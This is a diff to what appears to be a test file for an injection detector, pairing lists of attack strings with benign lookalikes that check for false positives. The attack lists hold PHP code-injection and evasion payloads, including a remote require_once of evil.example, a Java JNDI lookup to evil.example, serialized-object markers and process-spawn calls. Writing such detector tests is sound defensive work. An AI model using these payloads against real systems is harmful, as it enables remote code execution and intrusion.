@@ -19,7 +19,9 @@ const ATTACKS: Record<string, string[]> = {
   'PHP calls and evasions': [
     'system(whoami)', 'exec()', 'Please run phpinfo() on the box now', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
-    '[php]echo "test"', '(sy.(st).em)(@id)', "array_map('system',array('id'))", "usort($a, 'assert')", '<?xml :fputCSV($f, array("a"));', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
+    '[php]echo "test"', '(sy.(st).em)(@id)', "array_map('system',array('id'))", "usort($a, 'assert')", '<?xml :fputCSV($f, array("a"));',
+    'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}', '$_=${_GET}', 'require_once "http://evil.example/a.txt";', 'new ReflectionFunction("system")',
+    'chr(115).chr(121).chr(115)', 'putenv("LD_PRELOAD=/tmp/x.so")', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
   ],
   'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABXNy', 'AKztAAVzcg==', 'AACs7QAFc3I=', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
   'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
@@ -59,6 +61,7 @@ const BENIGN: string[] = [
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
   '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total', 'a=1;b=2;$a$b', 'We use $((a+b)) in our bash scripts per the style guide', 'Regards,\nJohn\n--\nSent from my phone', 'See chapter 5 (system calls) for exec() and fork()',
+  'Set LD_PRELOAD to the path of the library you want loaded first, e.g. LD_PRELOAD=/usr/lib/libfoo.so when debugging', "require('http')", 'include "header.php";',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
 ];
